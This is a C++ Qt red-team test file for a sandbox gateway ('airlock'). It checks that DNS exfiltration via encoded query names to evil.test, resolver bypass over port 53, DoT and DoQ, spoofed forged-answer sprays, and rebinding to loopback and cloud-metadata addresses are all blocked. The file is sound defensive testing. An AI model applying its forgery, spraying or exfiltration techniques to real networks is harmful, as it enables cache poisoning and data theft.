// docs/redteam-cases.md class E (DNS), from the guest namespace through the sandbox's nftables
// table and the real gateway's resolver, against the test authority in the upstream namespace.
// docs/redteam.md.
#include "rawpackets.h"
#include "redteamtestbase.h"

#include <QTest>

#include <ldns/ldns.h>

#include <future>

using namespace airlock::redteam;
using namespace airlock::test;
using namespace Qt::StringLiterals;

namespace {

/// A DNS response "name A address" with `id` (what a forger would send).
QByteArray forgedAnswer(const QString &name, quint16 id, const QString &address)
{
    ldns_pkt *pkt = ldns_pkt_query_new(ldns_dname_new_frm_str(name.toLatin1().constData()),
                                       LDNS_RR_TYPE_A, LDNS_RR_CLASS_IN, LDNS_RD);
    ldns_pkt_set_id(pkt, id);
    ldns_pkt_set_qr(pkt, true);
    ldns_pkt_set_aa(pkt, true);
    ldns_rr *rr = nullptr;
    const QByteArray text = name.toLatin1() + ". 3600 IN A " + address.toLatin1();
    ldns_rr_new_frm_str(&rr, text.constData(), 0, nullptr, nullptr);
    ldns_pkt_push_rr(pkt, LDNS_SECTION_ANSWER, rr);
    uint8_t *wire = nullptr;
    size_t size = 0;
    ldns_pkt2wire(&wire, pkt, &size);
    QByteArray bytes(reinterpret_cast<const char *>(wire), qsizetype(size));
    std::free(wire);
    ldns_pkt_free(pkt);
    return bytes;
}

bool inSyntheticPool(const QHostAddress &address)
{
    return address.isInSubnet(QHostAddress(u"100.112.0.0"_s), 16);
}

} // namespace

class TestRedteamDns : public RedteamTestBase
{
    Q_OBJECT
private Q_SLOTS:
    void E1_data();
    void E1();
    void E3_data();
    void E3();
    void E5();
    void E6_data();
    void E6();
};

// E1: data in the query name of a denied domain.
void TestRedteamDns::E1_data()
{
    QTest::addColumn<bool>("tcp");
    QTest::addColumn<int>("type");
    QTest::newRow("A over UDP") << false << 1;
    QTest::newRow("A over TCP") << true << 1;
    QTest::newRow("TXT over UDP") << false << 16;
}

void TestRedteamDns::E1()
{
    QFETCH(bool, tcp);
    QFETCH(int, type);
    const QString name = u"onswg4tforrw6zdf.mfzxg33uon2gc3q.x.evil.test"_s; // base32 data
    const DnsResult result =
        guestDnsQuery(m_topo.guestNs(), topo::Gateway, name, quint16(type), tcp);
    QVERIFY2(result.answered, "no DNS answer from GW");
    QVERIFY2(result.rcode == 5 || result.rcode == 3, qPrintable(u"rcode %1"_s.arg(result.rcode)));
    QVERIFY(result.addresses.isEmpty());
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s,
                               {u"host_not_allowed"_s, u"type_not_allowed"_s}));
    QVERIFY(m_topo.settle());
    QCOMPARE(m_topo.dns().queries().size(), 0);
}

// E3: another resolver: UDP/TCP 53 to any address but GW, and DNS over TLS port 853.
void TestRedteamDns::E3_data()
{
    QTest::addColumn<QString>("server");
    QTest::addColumn<int>("port");
    QTest::addColumn<bool>("tcp");
    QTest::addColumn<QString>("name");
    const QString authority = topo::DnsServer.toString();
    const QString evil = topo::EvilServer.toString();
    QTest::newRow("UDP 53 to the real authority, denied name")
        << authority << 53 << false << u"e3.evil.test"_s;
    QTest::newRow("UDP 53 to the real authority, allowed name")
        << authority << 53 << false << u"pkg.test"_s;
    QTest::newRow("UDP 53 to evil.test's address") << evil << 53 << false << u"evil.test"_s;
    QTest::newRow("TCP 53 to the real authority, denied name")
        << authority << 53 << true << u"e3.evil.test"_s;
    QTest::newRow("TCP 53 to evil.test's address") << evil << 53 << true << u"evil.test"_s;
    QTest::newRow("TCP 853 (DoT) to the real authority") << authority << 853 << true << QString();
    QTest::newRow("UDP 853 (DoQ) to the real authority") << authority << 853 << false << QString();
}

void TestRedteamDns::E3()
{
    QFETCH(QString, server);
    QFETCH(int, port);
    QFETCH(bool, tcp);
    QFETCH(QString, name);
    if (port == 853 && tcp) {
        // Redirected like all TCP: the gateway sees no ClientHello and closes.
        auto connection = m_topo.connect(QHostAddress(server), 853);
        QVERIFY2(connection, "the redirected connection was not accepted");
        QVERIFY(connection->send(
            QByteArray::fromHex("001c12340100000100000000000003706b6704746573740000010001")));
        QVERIFY2(connection->closedByPeer(5000), "the gateway kept a DoT-port connection open");
        REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"not_tls"_s}));
    } else if (port == 853) {
        const quint64 before = m_topo.counter(u"drop_udp"_s);
        const DnsResult result = guestDnsQuery(m_topo.guestNs(), QHostAddress(server),
                                               u"pkg.test"_s, 1, false, 853, 1000);
        QVERIFY(!result.answered);
        QTRY_VERIFY_WITH_TIMEOUT(m_topo.counter(u"drop_udp"_s) > before, 3000);
    } else {
        const quint64 before = m_topo.counter(u"redirect_dns"_s);
        const DnsResult result =
            guestDnsQuery(m_topo.guestNs(), QHostAddress(server), name, 1, tcp, 53);
        QVERIFY2(result.answered, "no answer: the query was neither redirected nor answered");
        QVERIFY(m_topo.counter(u"redirect_dns"_s) > before);
        if (name == u"pkg.test") {
            // Answered by GW under the policy: a synthetic address, never the real one.
            QCOMPARE(result.rcode, 0);
            QVERIFY(!result.addresses.isEmpty());
            for (const QHostAddress &address : result.addresses)
                QVERIFY2(inSyntheticPool(address), qPrintable(address.toString()));
        } else {
            QVERIFY2(result.rcode == 5 || result.rcode == 3,
                     qPrintable(u"rcode %1"_s.arg(result.rcode)));
            REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"host_not_allowed"_s}));
        }
    }
    QVERIFY(m_topo.settle());
    for (const auto &query : m_topo.dns().queries()) {
        QVERIFY2(query.from != topo::Guest, "the guest's packet reached the authority");
        QVERIFY2(!query.name.contains(u"evil"_s), qPrintable(query.name));
    }
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
    REDTEAM_CHECK(recordedTraffic(m_topo.hostTraps()));
}

// E5: forged answers from the guest with spoofed sources, while the gateway's own query for
// the name is outstanding (its port and id are known to the test: the strongest forger).
void TestRedteamDns::E5()
{
    const QString name = u"e5.wild.test"_s;
    m_topo.dns().setDelay(name, 1500);
    auto pending = std::async(std::launch::async, [this, name] {
        return guestDnsQuery(m_topo.guestNs(), topo::Gateway, name, 1, false, 53, 5000);
    });
    TestDnsAuthority::Query upstreamQuery;
    QTRY_VERIFY_WITH_TIMEOUT(
        [&] {
            for (const auto &query : m_topo.dns().queries())
                if (query.name == name) {
                    upstreamQuery = query;
                    return true;
                }
            return false;
        }(),
        3000);

    const QByteArray guestMac = macBytes(topo::GuestMac);
    const QByteArray ether = ethernetHeader(m_topo.hostMac(), guestMac, 0x0800);
    const QString evil = topo::EvilServer.toString();
    QList<QByteArray> frames;
    // The exact id and port of the outstanding query, from the authority's address...
    frames << ether
            + udpPacket(topo::DnsServer.toString(), topo::HostUplink.toString(), 53,
                        upstreamQuery.fromPort, forgedAnswer(name, upstreamQuery.id, evil));
    // ...a spray of ids at that port, and answers "from GW" at the gateway's DNS listener.
    for (quint16 id = 0; id < 2000; ++id) {
        frames << ether
                + udpPacket(topo::DnsServer.toString(), topo::HostUplink.toString(), 53,
                            upstreamQuery.fromPort, forgedAnswer(name, id * 31, evil));
        frames << ether
                + udpPacket(topo::Gateway.toString(), topo::Gateway.toString(), 53,
                            topo::GatewayDnsPort, forgedAnswer(name, id * 31, evil));
    }
    const quint64 before = m_topo.counter(u"drop_spoof_ipv4"_s);
    QVERIFY(sendFrames(m_topo.guestNs(), topo::GuestIf, frames));
    QTRY_VERIFY_WITH_TIMEOUT(
        m_topo.counter(u"drop_spoof_ipv4"_s) >= before + quint64(frames.size()), 3000);

    const DnsResult answer = pending.get();
    QVERIFY2(answer.answered && answer.rcode == 0 && !answer.addresses.isEmpty(),
             "the real answer did not arrive");
    const QHostAddress address = answer.addresses.first();
    QVERIFY2(inSyntheticPool(address), qPrintable(address.toString()));
    // Later connections to the name still reach the real server (pkg's address), not evil.
    bool handshake = false;
    auto connection = openTls(address, name.toLatin1(), &handshake);
    QVERIFY2(connection && handshake, qPrintable(connection ? connection->lastError() : QString()));
    QVERIFY(connection->send("GET /e5 HTTP/1.1\r\nHost: " + name.toLatin1() + "\r\n\r\n"));
    const HttpResponse response = connection->readResponse();
    QVERIFY2(response.status == 200 && response.body.contains("label=pkg"),
             response.body.constData());
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"evil"_s));
    m_topo.dns().setDelay(name, 0);
}

// E6: rebinding an allowed wildcard name to internal addresses.
void TestRedteamDns::E6_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("127.0.0.1") << u"lo.wild.test"_s;
    QTest::newRow("169.254.169.254") << u"meta.wild.test"_s;
    QTest::newRow("GW's address") << u"gw.wild.test"_s;
    QTest::newRow("::1") << u"v6lo.wild.test"_s;
    QTest::newRow("ULA fd00::1") << u"ula.wild.test"_s;
    QTest::newRow("v4-mapped ::ffff:127.0.0.1") << u"mapped.wild.test"_s;
}

void TestRedteamDns::E6()
{
    QFETCH(QString, name);
    const DnsResult result = m_topo.resolve(name);
    QVERIFY2(result.answered, "no DNS answer");
    QVERIFY2(
        result.rcode != 0 && result.addresses.isEmpty(),
        qPrintable(u"rcode %1, %2 addresses"_s.arg(result.rcode).arg(result.addresses.size())));
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"private_destination"_s}));
    // The guest connects anyway (to an address it picks): the gateway resolves the name itself
    // and must not dial.
    bool handshake = true;
    auto connection = openTls(topo::EvilServer, name.toLatin1(), &handshake);
    QVERIFY(connection);
    if (handshake) {
        connection->send("GET / HTTP/1.1\r\nHost: " + name.toLatin1() + "\r\n\r\n");
        const HttpResponse response = connection->readResponse();
        REDTEAM_CHECK(expectDenyHttp(response, {403, 502}, {u"private_destination"_s}));
    }
    REDTEAM_CHECK(recordedTraffic(m_topo.hostTraps()));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

QTEST_GUILESS_MAIN(TestRedteamDns)
#include "tst_redteam_dns.moc"
